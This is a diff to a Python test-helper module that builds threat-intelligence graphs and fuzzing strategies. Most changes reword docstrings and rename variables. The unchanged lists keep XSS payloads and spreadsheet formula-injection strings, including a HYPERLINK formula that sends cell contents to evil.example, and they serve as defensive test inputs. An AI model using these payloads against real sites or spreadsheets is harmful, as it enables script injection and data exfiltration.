@@ -1,4 +1,4 @@
-"""Graphs that several rooms' tests look at."""
+"""Graphs and strategies that tests of several packages use."""
 
 from __future__ import annotations
 
@@ -47,19 +47,19 @@ OBSERVATIONS = (
 
 
 def campaign():
-    """Three files, three references, two collections: one of each thing that can be said."""
+    """Return a graph of three files, three references and two collections."""
     return build_graph(OBSERVATIONS, subjects=(EMOTET, LOADER, UNKNOWN))
 
 
 def with_title(*titles, **attributes):
-    """One file, and a reference for each title."""
+    """Return a graph of one file with one reference per title."""
     return build_graph(
         Observation(EMOTET, Entity("reference", f"{n:064x}", {"title": t, **attributes}), GANG)
         for n, t in enumerate(titles)
     )
 
 
-# Rows I7 to I13 of the bad-input corpus: what titles, authors and addresses may hold.
+# Rows I7 to I13 of the corpus of bad input: texts of titles, authors and URLs.
 HOSTILE = (
     "</script><script>alert(1)</script>",
     "<img src=x onerror=alert(1)>",
@@ -113,7 +113,7 @@ HOSTILE = (
     "",
     " ",
 )
-# What else has been a formula somewhere, in a cell or behind what ends one.
+# More texts that some spreadsheet reads as a formula, in a cell or behind a separator.
 FORMULAS = (
     "=1+1",
     '=HYPERLINK("http://evil.example/?"&A1,"open")',
@@ -157,20 +157,20 @@ _names = st.sampled_from(
 ) | st.text(string.printable, min_size=1, max_size=12).filter(lambda n: n not in _CONTRACT)
 _CONTRACT = {"type", "id", "label"}
 _values = any_text | st.booleans() | st.integers() | st.floats()
-_known = st.dictionaries(_names, _values, max_size=4)
+_attributes = st.dictionaries(_names, _values, max_size=4)
 
 
 def _entities(*types):
-    return st.builds(Entity, st.sampled_from(types), odd_ids, _known)
+    return st.builds(Entity, st.sampled_from(types), odd_ids, _attributes)
 
 
 @st.composite
 def hostile_graphs(draw):
-    """Small graphs in which every text is hostile; subjects, references and the rest apart."""
-    facts = st.builds(
+    """Draw small graphs in which every text is hostile."""
+    observations = st.builds(
         Observation,
         _entities("file"),
         _entities("reference"),
         st.none() | _entities("collection", "x-odd_type"),
     )
-    return build_graph(draw(st.lists(facts, max_size=6)))
+    return build_graph(draw(st.lists(observations, max_size=6)))
